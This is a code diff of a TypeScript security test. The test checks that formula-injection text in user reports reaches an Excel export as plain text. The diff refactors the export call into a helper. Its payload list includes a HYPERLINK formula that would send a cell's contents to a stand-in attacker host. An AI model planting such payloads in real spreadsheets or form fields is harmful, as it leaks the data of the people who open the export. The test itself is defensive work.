@@ -2,9 +2,15 @@
  * Formula injection: reporter text starting with = + - @ reaches the handlers' Excel export as text,
  * never as a formula cell.
  */
-import { request } from 'undici';
-import { type AttackCase, caseNumberOf, expect, fileReport, type Tools, today } from '../support.ts';
-import { unzipEntries } from '../xlsx.ts';
+import {
+  type AttackCase,
+  caseNumberOf,
+  expect,
+  exportWorkbook,
+  fileReport,
+  type Tools,
+  today,
+} from '../support.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
@@ -20,18 +26,7 @@ async function exportWithPayloads(t: Tools): Promise<Map<string, string>> {
   if (exported) return exported;
   for (const what of PAYLOADS)
     caseNumberOf(await fileReport(t, { fields: { what, where: what, perpetrator: what } }));
-  const reply = await request(new URL('/api/v1/cases/export', t.baseUrl), {
-    method: 'POST',
-    headers: {
-      origin: new URL(t.baseUrl).origin,
-      cookie: t.sessions.get('admin.kahuripan') ?? '',
-      'content-type': 'application/json',
-    },
-    body: JSON.stringify({ from: today(), to: today() }),
-  });
-  const bytes = Buffer.from(await reply.body.arrayBuffer());
-  expect(reply.statusCode === 200, `export answered ${reply.statusCode}`);
-  exported = unzipEntries(bytes);
+  exported = await exportWorkbook(t, { from: today(), to: today() });
   return exported;
 }
 
